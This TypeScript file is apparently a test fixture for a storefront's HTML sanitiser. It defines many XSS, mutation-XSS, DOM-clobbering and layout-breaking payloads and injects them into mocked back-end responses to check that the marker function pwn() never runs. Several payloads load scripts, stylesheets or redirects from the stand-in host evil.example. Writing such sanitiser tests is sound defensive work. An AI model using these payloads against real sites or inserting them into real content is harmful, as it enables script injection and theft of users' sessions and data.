/*
 * Texts that an attacker may enter in a field of the back end. Tests watch for calls of `pwn()`.
 * The sanitiser works with lists of allowed names, so one text per kind of attack is enough.
 */

const eventHandlerMarkup = [
  '<img\nsrc=x\nonerror\n=\npwn()>',
  '<img/src=x/onerror=&#x70;&#x77;&#x6e;()>',
  '<img src=x style="x:x" onerror=pwn() alt="`"//',
  '<video><source onerror=pwn()></video><audio onloadstart=pwn() src=x autoplay loop>',
  '<body onload=pwn() onpageshow=pwn() onresize=pwn() onscroll=pwn()>',
  '<p onfocus=pwn() tabindex=1 autofocus>x</p><a onfocus=pwn() href=# autofocus id=x>x</a>',
  '<details open ontoggle=pwn()><summary>x</summary></details><p title=">" onclick=pwn()>x</p>',
  '<div onbeforematch=pwn() hidden=until-found popover onbeforetoggle=pwn()>x</div>',
  '<x-y onfocusin=pwn() tabindex=0 autofocus>x</x-y><slot onslotchange=pwn()>x</slot>',
];

const hostileScripts = [
  '<ScRiPt>pwn()</sCrIpT>',
  '<script src=//evil.example/x.js></script><script src="data:text/javascript,pwn()"></script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<script>/*</script><script>*/pwn()</script>',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '<!--><script>pwn()</script>--><!-- --!><script>pwn()</script>',
  '<![CDATA[<script>pwn()</script>]]><?xml version="1.0"?><script>pwn()</script>',
  '</title></textarea></style></script></noscript></template><script>pwn()</script>',
  "'--></script><script>pwn()</script>",
  '\\u003cscript\\u003epwn()\\u003c/script\\u003e&lt;script&gt;pwn()&lt;/script&gt;',
  '<\u0000script>pwn()</script>',
  '<script>pwn()',
  '<base href="https://evil.example/"><script src="x.js"></script>',
  '{{constructor.constructor("pwn()")()}}${pwn()}',
];

const hostileAddresses = [
  'JaVaScRiPt:pwn()',
  '\u0001 javascript:pwn()',
  'java\tscript:pwn()',
  'javascript&colon;pwn()',
  'java&NewLine;script:pwn()',
  'javascript:/*--></title></style></textarea></script><svg/onload=pwn()>',
  'jav\u00adascript:pwn()',
  'data:text/html,<script>pwn()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>',
  'blob:https://evil.example/x',
  'intent://x#Intent;scheme=javascript;end',
  'http://%',
  '//',
  'https:\\\\evil.example',
];

const hostileLinks = hostileAddresses.map((address) => {
  const escapedAddress = address.replaceAll('"', '&quot;');
  return `<a href="${escapedAddress}">x</a><img src="${escapedAddress}">`;
});

const resourceLoadingMarkup = [
  '<p action="javascript:pwn()" background="javascript:pwn()" cite="javascript:pwn()">x</p>',
  '<video poster="javascript:pwn()" src="https://evil.example/v.mp4" autoplay loop muted></video>',
  '<video autoplay><source src="data:video/mp4;base64,AA"><track src="https://evil.example/t"></video>',
  '<iframe src="javascript:pwn()"></iframe><iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>top.pwn()</script>"></iframe>',
  '<portal src="https://evil.example/"></portal><frameset><frame src="javascript:pwn()"></frameset>',
  '<object data="javascript:pwn()"></object><embed src="javascript:pwn()"><applet code=x></applet>',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=modulepreload href=//evil.example/x>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<p title="<button><meta http-equiv=refresh content=0;url=https://evil.example/>">x</p>',
  '<meta name=referrer content=unsafe-url><img src="https://evil.example/i.png" referrerpolicy=unsafe-url>',
  '<form action="javascript:pwn()"><button formaction="javascript:pwn()">x</button></form>',
  '<a href="/products" target=_top ping="https://evil.example/p" download>x</a>',
  '<a href="https://evil.example/" target=_blank rel=opener>x</a>',
  '<img src="https://evil.example/i.png" crossorigin=use-credentials attributionsrc="https://evil.example/a">',
];

const svgAndMathMarkup = [
  '<svg/onload=pwn()>',
  '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
  '<svg><a><animate onbegin=pwn() attributeName=href values=javascript:pwn() /><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn() />#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:pwn()"></iframe></foreignObject></svg>',
  '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
  '<math href="javascript:pwn()"><mi xlink:href="javascript:pwn()">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>',
];

/**
 * These texts are harmless when parsed once, but harmful when the serialised result is parsed
 * again.
 */
const mutatingMarkup = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn() src>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<plaintext><img src=x onerror=pwn()>',
  '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
  '<iframe><p title="</iframe><img src=x onerror=pwn()>">',
  '<div><template shadowrootmode=open><script>pwn()</script></template></div>',
  '<table><tr><form><td><svg><style><b title="</style><img src=x onerror=pwn()>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=pwn()>">',
  '<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=pwn()>">',
  '<p is=x-y lang="`><img src=x onerror=pwn()>"><x-y>&lt;img src=x onerror=pwn()&gt;</x-y>',
  `${'<div>'.repeat(600)}<table><caption><svg><title><style><img src=x onerror=pwn()>${'</div>'.repeat(600)}`,
];

/** These texts run no code, but cover, rename, capture, move or stretch parts of the shop. */
const misleadingMarkup = [
  '<div style="position:fixed;inset:0;background:red;z-index:99999">Pay here</div>',
  '<style>header,#root>*{display:none!important}</style>',
  '<p class="MuiDialog-root MuiBackdrop-root" id=root name=root>x</p>',
  '<img name=body src=/icons/icon.svg><img id=getElementById src=/icons/icon.svg>',
  '<form name=cookie><input id=attributes><input name=parentNode></form>',
  '<a id=storefrontConfig></a><a id=storefrontConfig name=apiBaseUrl href="https://evil.example">x</a>',
  '<label for=search>Tap</label><label>Tap<input></label>',
  '<main>x</main><header role=banner>x</header><footer role=contentinfo>x</footer>',
  '<div role=dialog aria-modal=true aria-label=Log>x</div><div role=alertdialog>Paid</div>',
  '<marquee loop=1>x</marquee><p tabindex=9999 accesskey=s inert hidden>x</p>',
  '<table width=99999 height=99999 border=999 cellpadding=9999><td width=99999 nowrap>x</table>',
  '<img src=/icons/icon.svg width=99999 height=99999 hspace=9999 vspace=9999 border=999>',
  `<nobr>${'wide '.repeat(400)}</nobr><p>${'unbroken'.repeat(400)}${'\u00a0'.repeat(2000)}x</p>`,
  `<table><tr><td>${'<table><tr><td>'.repeat(20)}unbroken-unbroken-unbroken</table>`,
  `${'<blockquote><ul><li>'.repeat(60)}x`,
  '<td colspan=99999999>x</td><table><td colspan=1000 rowspan=65534>x</table>',
  '<p dir=rtl>\u202e\u2066evol\u2069 Z\u0335\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307</p>',
];

/** One blog post for each hostile text, which most fields of the post contain. */
export const hostilePosts = [
  ...eventHandlerMarkup,
  ...hostileScripts,
  ...hostileLinks,
  ...resourceLoadingMarkup,
  ...svgAndMathMarkup,
  ...mutatingMarkup,
  ...misleadingMarkup,
].map((html, index) => ({
  blogId: index + 1,
  title: html,
  shortDescription: html,
  longDescription: `<p>Before</p>${html}<p>After</p>`,
  blogImageURL: hostileAddresses[index % hostileAddresses.length],
  dateFrom: html,
  authorName: html,
  tags: `a, ${html}`,
}));

const hostileText =
  '"><img src=x onerror=pwn()>\'><svg onload=pwn()></title></script><script>pwn()</script>--><style>*{display:none}</style>\u2028{{pwn()}}';

/**
 * Returns whether the shop uses a field as a key that no shopper reads. Changing such a key would
 * only create a row that the shop does not know.
 */
const isKeyField = (name: string) =>
  /(?:Id|_id|Prefix|token|role|userEmail|TypeName|statusCode|createdAt)$/i.test(name);

/** Copies an answer and changes each text that reaches the page. */
function changeTexts(
  value: unknown,
  changeText: (text: string, name: string) => unknown,
  name = '',
): unknown {
  if (Array.isArray(value)) return value.map((row) => changeTexts(row, changeText, name));
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(
      Object.entries(value).map(([key, field]) => [key, changeTexts(field, changeText, key)]),
    );
  return typeof value !== 'string' || isKeyField(name) ? value : changeText(value, name);
}

let addressIndex = 0;

/** Copies an answer and adds a hostile text to every field that reaches the page. */
export const addHostileText = (value: unknown): unknown =>
  changeTexts(value, (text, name) => {
    addressIndex += 1;
    return /url$/i.test(name)
      ? hostileAddresses[addressIndex % hostileAddresses.length]
      : text + hostileText;
  });

/** An Urdu text that ends with a word of 64 letters, which is too long for a line. */
const urduWords = `ڈبہ ۱۲ – ${'قسطنطنیہ'.repeat(8)}`;

/** Preformatted text and a table that are wider than a phone. */
const wideMarkup = `<pre>${urduWords}</pre><table><tr>${`<td>${urduWords}</td>`.repeat(8)}</tr></table>`;

/** Copies an answer and replaces its texts by Urdu, except in addresses, numbers and dates. */
export const replaceWithUrdu = (value: unknown): unknown =>
  changeTexts(value, (text, name) => {
    if (/url|email|no|from$/i.test(name)) return text;
    return text.includes('<')
      ? text.replace(/>[^<>]+</g, `>${urduWords}<`) + wideMarkup
      : urduWords;
  });

/** Returns a hostile answer to a call. Only answers with the access token stay unchanged. */
export function createHostileAnswer(url: string, body: unknown): unknown {
  if (url.includes('/Blog/GetAll')) return { statusCode: 200, data: hostilePosts };
  return url.includes('GenerateToken') ? body : addHostileText(body);
}
